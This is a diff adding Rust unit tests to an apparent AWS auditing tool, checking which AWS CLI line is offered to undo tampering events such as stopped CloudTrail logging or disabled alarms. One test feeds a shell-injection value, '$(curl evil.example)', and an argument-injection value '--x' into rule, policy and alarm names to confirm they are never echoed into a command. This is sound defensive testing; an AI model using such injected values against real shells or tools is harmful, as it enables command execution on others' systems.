@@ -4,7 +4,7 @@ use serde_json::json;
 
 use super::*;
 use crate::evaluate::Severity;
-use crate::finding::Weakening;
+use crate::finding::{Mend, Weakening};
 
 fn sample(name: &str) -> Value {
     let path = format!("{}/events/{name}.json", env!("CARGO_MANIFEST_DIR"));
@@ -292,4 +292,147 @@ fn what_one_call_takes_back_has_the_line_that_does() {
         let published = ran(&event).published();
         assert_eq!(published["findings"][0]["remediation"]["fix"], line, "{call}");
     }
+}
+
+/// The shell line with the finding about a call to another service.
+fn line(service: &str, call: &str, request: Value) -> Option<String> {
+    let mut event = sample("stop-logging");
+    let detail = &mut event["detail"];
+    detail["eventSource"] = format!("{service}.amazonaws.com").into();
+    detail["eventName"] = call.into();
+    detail["requestParameters"] = request;
+    let (world, settings) = (ec2(&[]), settings(Remediation::RevertSsh));
+    let (notifier, home) = (MemoryNotifier::default(), place());
+    let auditor = Auditor::new(&world, &notifier, &notifier, &settings, &home)
+        .with_stack(Some("typo3-sg-auditor"));
+    let report = block_on(auditor.audit(&decoded(&event), &noon, None)).unwrap();
+    only(&report).fix.clone()
+}
+
+const DOCTOR: &str = "sg-audit doctor --stack 'typo3-sg-auditor' --region 'eu-central-1'";
+
+#[test]
+fn a_call_that_one_call_takes_back_comes_with_that_one() {
+    let names = |names: &[&str]| json!({ "alarmNames": names });
+    for (service, call, request, expected) in [
+        (
+            "cloudtrail",
+            "StopLogging",
+            json!({"name": "audit"}),
+            "aws cloudtrail start-logging --region 'eu-central-1' --name 'audit'",
+        ),
+        (
+            "events",
+            "DisableRule",
+            json!({"name": "Changes"}),
+            "aws events enable-rule --region 'eu-central-1' --name 'Changes'",
+        ),
+        (
+            "lambda",
+            "PutFunctionConcurrency20171031",
+            json!({"functionName": "arn:aws:lambda:eu-central-1:123456789012:function:Auditor"}),
+            "aws lambda delete-function-concurrency --region 'eu-central-1' --function-name \
+             'Auditor'",
+        ),
+        (
+            "lambda",
+            "AddPermission20150331v2",
+            json!({"functionName": "Auditor", "statementId": "other"}),
+            "aws lambda remove-permission --region 'eu-central-1' --function-name 'Auditor' \
+             --statement-id 'other'",
+        ),
+        (
+            "lambda",
+            "UpdateEventSourceMapping20150331",
+            json!({"uUID": "0f1e2d3c-1111", "enabled": false}),
+            "aws lambda update-event-source-mapping --region 'eu-central-1' --uuid \
+             '0f1e2d3c-1111' --enabled",
+        ),
+        (
+            "iam",
+            "AttachRolePolicy",
+            json!({"roleName": "Role", "policyArn": "arn:aws:iam::aws:policy/AWSDenyAll"}),
+            "aws iam detach-role-policy --role-name 'Role' --policy-arn \
+             'arn:aws:iam::aws:policy/AWSDenyAll'",
+        ),
+        (
+            "iam",
+            "PutRolePermissionsBoundary",
+            json!({"roleName": "Role"}),
+            "aws iam delete-role-permissions-boundary --role-name 'Role'",
+        ),
+        (
+            "kms",
+            "ScheduleKeyDeletion",
+            json!({"keyId": "1a2b-3c"}),
+            "aws kms cancel-key-deletion --region 'eu-central-1' --key-id '1a2b-3c' && aws kms \
+             enable-key --region 'eu-central-1' --key-id '1a2b-3c'",
+        ),
+        (
+            "monitoring",
+            "DisableAlarmActions",
+            names(&["EventsParked", "SweepMissed"]),
+            "aws cloudwatch enable-alarm-actions --region 'eu-central-1' --alarm-names \
+             'EventsParked' 'SweepMissed'",
+        ),
+        (
+            "monitoring",
+            "PutAlarmMuteRule",
+            json!({"name": "night", "muteTargets": {"alarmNames": ["EventsParked"]}}),
+            "aws cloudwatch delete-alarm-mute-rule --region 'eu-central-1' \
+             --alarm-mute-rule-name 'night'",
+        ),
+    ] {
+        assert_eq!(line(service, call, request).as_deref(), Some(expected), "{call}");
+    }
+}
+
+#[test]
+fn every_other_call_comes_with_the_line_that_finds_out_what_mends_it() {
+    let hostile = "$(curl evil.example)";
+    for (service, call, request) in [
+        ("cloudtrail", "DeleteTrail", json!({"name": "audit"})),
+        ("cloudtrail", "UpdateTrail", json!({"name": "audit"})),
+        ("cloudtrail", "PutEventSelectors", json!({"trailName": "audit"})),
+        ("events", "DeleteRule", json!({"name": "Changes"})),
+        ("events", "PutRule", json!({"name": "Changes"})),
+        ("events", "RemoveTargets", json!({"rule": "Changes"})),
+        ("events", "PutTargets", json!({"rule": "Changes"})),
+        ("lambda", "UpdateFunctionCode20150331v2", json!({"functionName": "Auditor"})),
+        ("lambda", "DeleteFunction20150331", json!({"functionName": "Auditor"})),
+        ("lambda", "RemovePermission20150331v2", json!({"functionName": "Auditor"})),
+        ("lambda", "DeleteEventSourceMapping20150331", json!({"uUID": "0f1e"})),
+        ("sns", "DeleteTopic", json!({"topicArn": "arn:aws:sns:eu-central-1:123456789012:a"})),
+        ("sns", "SetTopicAttributes", json!({})),
+        ("sns", "Unsubscribe", json!({})),
+        ("sqs", "PurgeQueue", json!({})),
+        ("sqs", "SetQueueAttributes", json!({})),
+        // Attached again, it might be a policy that had no business there.
+        ("iam", "DetachRolePolicy", json!({"roleName": "Role", "policyArn": "arn:aws:iam::1:a"})),
+        ("iam", "PutRolePolicy", json!({"roleName": "Role"})),
+        ("iam", "UpdateAssumeRolePolicy", json!({"roleName": "Role"})),
+        ("logs", "PutRetentionPolicy", json!({"logGroupName": "/aws/lambda/a"})),
+        ("kms", "PutKeyPolicy", json!({"keyId": "1a2b"})),
+        ("monitoring", "DeleteAlarms", json!({"alarmNames": ["EventsParked"]})),
+        ("monitoring", "SetAlarmState", json!({"alarmName": "EventsParked"})),
+        ("states", "DeleteStateMachine", json!({})),
+        // What the record has lost, or what somebody chose so that it does harm in a shell.
+        ("cloudtrail", "StopLogging", json!({"omitted": true})),
+        ("events", "DisableRule", json!({ "name": hostile })),
+        ("iam", "AttachRolePolicy", json!({"roleName": "Role", "policyArn": hostile})),
+        ("lambda", "AddPermission", json!({"functionName": "Auditor", "statementId": "--x"})),
+        ("monitoring", "DisableAlarmActions", json!({"alarmNames": ["EventsParked", hostile]})),
+    ] {
+        assert_eq!(line(service, call, request).as_deref(), Some(DOCTOR), "{call}");
+    }
+}
+
+#[test]
+fn what_a_deployment_did_is_not_taken_back() {
+    let mut event = sample("disable-rule");
+    event["detail"]["userIdentity"]["invokedBy"] = "cloudformation.amazonaws.com".into();
+    // Without the name of its stack there is nothing to look at.
+    assert_eq!(finding(&event).fix, None);
+    let Matter::AuditorChanged { mend, .. } = finding(&event).matter else { panic!("{event}") };
+    assert_eq!(mend, Mend::ByDoctor);
 }
